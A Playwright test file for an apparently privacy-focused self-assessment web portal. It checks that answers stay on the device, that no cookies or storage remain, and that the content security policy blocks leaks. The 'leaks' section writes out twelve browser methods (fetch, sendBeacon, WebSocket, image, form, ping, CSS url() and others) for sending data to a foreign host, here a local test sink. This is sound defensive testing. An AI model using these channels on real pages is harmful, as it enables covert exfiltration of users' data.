import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { createPortalServer } from '../../scripts/serve/server.ts';
import { town } from './town.ts';
import { answerAll, start } from './take.ts';

const high = [3, 3, 3, 3, 3, 3, 3, 3, 3];
const low = high.map(() => 0);

test.describe('服务器看到的', () => {
  let server: Server;
  let log: string[];
  let base: string;

  test.beforeAll(async () => {
    log = [];
    server = createPortalServer({
      folder: town,
      base: '/',
      log: (method, url) => log.push(`${method} ${url}`),
    });
    base = await listen(server);
  });

  test.afterAll(() => {
    server.close();
  });

  test('两个人答得完全相反，看不出分别：打开时请求相同，之后没有；没有参数，没有 cookie', async ({
    browser,
  }) => {
    const opening: string[][] = [];
    for (const places of [high, low]) {
      log.length = 0;
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(`${base}assessments/lamps-nine/`, { waitUntil: 'networkidle' });
      // The page and its files, asked for side by side before anything is answered: their order is chance.
      opening.push([...log].sort());
      log.length = 0;
      await start(page, '18–59 岁');
      await answerAll(page, places);
      await page.locator('.player-result').waitFor();
      await page.locator('.player-result').getByRole('link', { name: '找服务' }).click();
      await page.waitForURL(/services\/$/, { waitUntil: 'networkidle' });
      expect(log[0]).toBe('GET /services/');
      expect(log.filter((line) => line.includes('assessments'))).toEqual([]);
      expect(await context.cookies()).toEqual([]);
      await context.close();
    }
    expect(opening[0]).toEqual(opening[1]);
    expect(opening[0]).toContain('GET /assessments/lamps-nine/');
    for (const line of opening[0] ?? []) expect(line).toMatch(/^GET \/[\w./-]+$/);
  });

  test('从开始到结果，一个请求也没有', async ({ page }) => {
    await page.goto(`${base}assessments/lamps-nine/`, { waitUntil: 'networkidle' });
    log.length = 0;
    await start(page, '18–59 岁');
    await answerAll(page, high);
    await page.getByRole('button', { name: '清除' }).click();
    expect(log).toEqual([]);
  });

  test('栽一个请求，记录里看得见：这项检查会失败', async ({ page }) => {
    await page.goto(`${base}assessments/lamps-nine/`, { waitUntil: 'networkidle' });
    log.length = 0;
    // The navigation no policy stops; the script check keeps it out of what we ship.
    await page.evaluate(() => {
      window.location.href = '/help/?answer=3';
    });
    await page.waitForURL(/answer=3/);
    expect(log.some((line) => line.includes('answer=3'))).toBe(true);
  });
});

test('打开以后断了网，也能做完', async ({ page, context }) => {
  await page.goto('assessments/lamps-nine/', { waitUntil: 'networkidle' });
  await context.setOffline(true);
  await start(page, '18–59 岁');
  await answerAll(page, high);
  await expect(page.locator('.player-score')).toContainText('27 / 27');
  await context.setOffline(false);
});

test('「我需要什么帮助」打开以后断了网，也能做', async ({ page, context }) => {
  await page.goto('assessments/needs/', { waitUntil: 'networkidle' });
  await context.setOffline(true);
  await page.getByRole('button', { name: '开始' }).click();
  await expect(page.locator('.player legend')).toContainText('现在有没有正在发生的危险？');
  await context.setOffline(false);
});

test('做完以后，设备上除了显示设置什么也没留下', async ({ page, context }) => {
  await page.goto('assessments/lamps-nine/');
  await start(page, '18–59 岁');
  await page.getByLabel('点了就到下一题').check();
  await page.getByLabel('点了就到下一题').uncheck();
  await page.getByLabel('点了就到下一题').check();
  for (const place of high) {
    await page.locator('.player-option').nth(place).click();
  }
  // The last tap may go on by itself while we look for the button.
  const result = page.locator('.player-result');
  await expect(async () => {
    if (!(await result.isVisible()))
      await page.getByRole('button', { name: '看结果' }).click({ timeout: 1000 });
    await expect(result).toBeVisible({ timeout: 1000 });
  }).toPass();
  expect(
    await page.evaluate(async () => ({
      local: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      caches: await caches.keys(),
      databases: (await indexedDB.databases()).map(({ name }) => name),
      state: history.state as unknown,
      address: window.location.search + window.location.hash,
    })),
  ).toEqual({
    local: ['xinan-auto-advance'],
    session: [],
    caches: [],
    databases: [],
    state: null,
    address: '',
  });
  expect(await context.cookies()).toEqual([]);
});

/** Each tries to carry a secret to a foreign host; what arrives there is counted. */
const leaks: Record<string, (sink: string) => unknown> = {
  fetch: (sink) => fetch(`${sink}fetch`, { mode: 'no-cors' }).catch(() => 0),
  'fetch keepalive': (sink) =>
    fetch(`${sink}keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST' }).catch(() => 0),
  XMLHttpRequest: (sink) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${sink}xhr`);
    request.send();
  },
  sendBeacon: (sink) => navigator.sendBeacon(`${sink}beacon`, 'x'),
  WebSocket: (sink) => {
    try {
      new WebSocket(`${sink.replace('http', 'ws')}socket`);
    } catch {
      // Refused at once: nothing arrives, which is what is counted.
    }
  },
  EventSource: (sink) => {
    new EventSource(`${sink}events`);
  },
  img: (sink) => {
    new Image().src = `${sink}img`;
  },
  iframe: (sink) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('src', `${sink}frame`);
    document.body.append(frame);
  },
  form: (sink) => {
    const form = document.createElement('form');
    form.action = `${sink}form`;
    form.method = 'post';
    form.target = '_self';
    document.body.append(form);
    form.submit();
  },
  'a ping': (sink) => {
    const link = document.createElement('a');
    link.href = '#main';
    link.ping = `${sink}ping`;
    document.body.append(link);
    link.click();
  },
  'css url()': (sink) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body{background:url(${sink}css)}`);
    document.adoptedStyleSheets = [sheet];
  },
  'link prefetch': (sink) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${sink}prefetch`;
    document.head.append(link);
  },
};

test.describe('栽一条往外传的路，策略拦下', () => {
  let sink: Server;
  let address: string;
  let arrived: string[];

  test.beforeAll(async () => {
    arrived = [];
    sink = createServer((request, response) => {
      arrived.push(request.url ?? '');
      response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><p>x');
    });
    address = await listen(sink);
  });

  test.afterAll(() => {
    sink.close();
  });

  for (const [name, leak] of Object.entries(leaks))
    test(name, async ({ page }) => {
      const attempt = async (url: string) => {
        arrived.length = 0;
        await page.goto(url);
        await run(page, leak, address);
        await page.waitForTimeout(400);
        return arrived.filter((path) => path !== '/' && path !== '/favicon.ico').length;
      };
      expect(await attempt('assessments/lamps-nine/'), '自测页上').toBe(0);
      // The same attempt on a page without our policy arrives: the test can fail.
      expect(await attempt(address), '没有策略的网页上').toBeGreaterThan(0);
    });

  test('后台程序：Worker 起不来', async ({ page }) => {
    await page.goto('assessments/lamps-nine/');
    const started = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          try {
            const worker = new Worker('/_astro/none.js');
            worker.onerror = () => resolve('拦下');
            worker.onmessage = () => resolve('起来了');
          } catch {
            // Trusted Types refuse the address before the policy is asked.
            resolve('拦下');
          }
        }),
    );
    expect(started).toBe('拦下');
  });

  test('写进网页代码：Trusted Types 拦下', async ({ page }) => {
    await page.goto('assessments/lamps-nine/');
    const refused = await page.evaluate(() => {
      try {
        document.body.innerHTML = '<img src=x>';
        return false;
      } catch {
        // The refusal is what is asked for.
        return true;
      }
    });
    expect(refused).toBe(true);
  });
});

async function run(page: Page, leak: (sink: string) => unknown, sink: string): Promise<void> {
  // Run as the page's own code; a navigation may cut the call short.
  await page.evaluate(leak, sink).catch(() => undefined);
}

function listen(server: Server): Promise<string> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    });
  });
}
